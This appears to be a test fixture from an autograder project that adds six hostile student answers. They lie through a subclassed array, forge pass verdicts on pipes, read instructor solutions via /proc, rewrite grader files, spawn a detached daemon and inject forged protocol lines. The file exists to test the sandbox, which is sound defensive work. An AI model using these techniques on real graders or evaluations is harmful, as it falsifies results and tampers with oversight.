@@ -1,0 +1,168 @@
+"""Hostile submissions that attack the grader itself rather than the tests (issue 9).
+
+Each one is the answer cell of the fixture's ``sigmoid`` exercise (the other two exercises
+are answered correctly) and is graded with the rest of the fixture class through the README's
+command. Every attack today's sandbox stops is here, written as a determined student would:
+
+1. lying return values: an ``ndarray`` subclass that equals everything;
+2. a forged verdict: write ``{"passed": true}`` onto every pipe it holds, then exit;
+3. reading the instructor's files: find ``solutions/`` and run the instructor's solution;
+4. rewriting course files: the source's test cells, the grader's and the checks' code;
+5. a detached daemon (double fork + ``setsid``) that would outlive grading;
+6. protocol injection: forged results for the *next* jobs onto every pipe it can reach.
+"""
+
+from __future__ import annotations
+
+# In the command line of every process an attack starts, so that a test can prove that none
+# of them outlived grading.
+MARKER = "seq-attack-process"
+
+# Where a hostile notebook looks for the course: around its working directory, around the
+# course package it imports, and around every process it can see in /proc.
+FIND_COURSE = """import os, pathlib
+def _course_folders():
+    import utils
+    starts = [pathlib.Path(os.getcwd()), pathlib.Path(utils.__file__).resolve()]
+    for pid in os.listdir("/proc"):
+        try:
+            starts.append(pathlib.Path(os.readlink(f"/proc/{pid}/cwd")))
+        except OSError:
+            pass
+    seen = []
+    for start in starts:
+        for folder in [start, *start.parents]:
+            if folder not in seen and folder != pathlib.Path("/"):
+                seen.append(folder)
+    return seen
+"""
+
+LYING_VALUES = '''class Liar(np.ndarray):
+    """Says it equals whatever it is compared with."""
+    def __eq__(self, other):
+        return np.ones(np.shape(other), dtype=bool)
+    def __ne__(self, other):
+        return np.zeros(np.shape(other), dtype=bool)
+    def __sub__(self, other):
+        return np.zeros(np.shape(other))
+    def __rsub__(self, other):
+        return np.zeros(np.shape(other))
+    def astype(self, *args, **kwargs):
+        return self
+def sigmoid(z):
+    return np.zeros(np.shape(z)).view(Liar)
+'''
+
+FORGED_RESULT = """import json, os, stat, sys
+def sigmoid(z):
+    if "ipykernel" not in sys.modules:  # the re-grade: forge its verdict, then vanish
+        for fd in range(3, 64):
+            try:
+                if stat.S_ISFIFO(os.fstat(fd).st_mode):
+                    os.write(fd, (json.dumps({"passed": True, "error": None}) + "\\n").encode())
+            except OSError:
+                pass
+        os._exit(0)
+    return z
+"""
+
+READS_SOLUTIONS = (
+    FIND_COURSE
+    + """import json
+def sigmoid(z):
+    for folder in _course_folders():
+        for path in folder.glob("solutions/*/*.ipynb"):
+            for cell in json.loads(path.read_text())["cells"]:
+                code = "".join(cell["source"])
+                if code.startswith("def sigmoid"):
+                    namespace = {"np": np}
+                    exec(code, namespace)
+                    return namespace["sigmoid"](z)
+    return z
+"""
+)
+
+REWRITES_COURSE = (
+    FIND_COURSE
+    + """def _rewrite():
+    import grader
+    import utils
+    targets = [pathlib.Path(grader.__file__).parent / "regrade.py"]
+    targets.append(pathlib.Path(utils.__file__).parent / "checks.py")
+    for folder in _course_folders():
+        targets += list(folder.glob("solutions/*/*.ipynb")) + list(folder.glob("grader/*.py"))
+    for path in targets:
+        try:
+            text = path.read_text()
+            path.write_text(text.replace("checks.check_close(", "(lambda *a, **k: None)("))
+        except Exception:
+            pass
+def sigmoid(z):
+    _rewrite()
+    return z
+_rewrite()
+"""
+)
+
+DAEMON = f"""import os, sys
+def _detach():
+    code = "import time\\ntime.sleep(900)  # {MARKER}"
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, "-c", code])
+        os._exit(0)
+    os.wait()
+def sigmoid(z):
+    _detach()
+    return 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))
+_detach()
+"""
+
+PROTOCOL_INJECTION = """import json, os, stat
+def _forged_lines():
+    lines = [{"passed": True, "error": None}]
+    for n in range(1, 80):
+        lines.append({"job": f"re-grade#{n}", "tests": [], "notes": [], "error": None})
+        lines.append({"id": n, "ok": True, "result": ["n"], "args": ["l", []], "kwargs": ["d", []]})
+    return "".join(json.dumps(line) + "\\n" for line in lines)
+def _inject():
+    for pid in ["self", *os.listdir("/proc")]:
+        try:
+            fds = os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            continue
+        for fd in fds:
+            path = f"/proc/{pid}/fd/{fd}"
+            try:
+                if stat.S_ISFIFO(os.stat(path).st_mode):
+                    with open(path, "w") as pipe:
+                        pipe.write(_forged_lines())
+            except OSError:
+                pass
+def sigmoid(z):
+    _inject()
+    return 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))
+_inject()
+"""
+
+# student -> (sigmoid answer, expected status, score, cells overridden, words in the report)
+ATTACKS = {
+    "attack1_lying_values": (
+        LYING_VALUES,
+        "graded",
+        5,
+        ["test_sigmoid"],
+        "the result of sigmoid is a Liar (a subclass of numpy.ndarray); return a NumPy array",
+    ),
+    "attack2_forged_result": (FORGED_RESULT, "not graded", None, [], "protocol violation"),
+    "attack3_reads_solutions": (READS_SOLUTIONS, "graded", 5, [], "sigmoid(z) is wrong"),
+    "attack4_rewrites_course": (REWRITES_COURSE, "graded", 5, [], "sigmoid(z) is wrong"),
+    "attack5_daemon": (DAEMON, "graded", 7, [], None),
+    "attack6_protocol_injection": (PROTOCOL_INJECTION, "not graded", None, [], "protocol"),
+}
+
+
+def honest_after(attack: str) -> str:
+    """The honest student graded right after ``attack`` (sorted order)."""
+    return attack.split("_")[0] + "_then_honest"
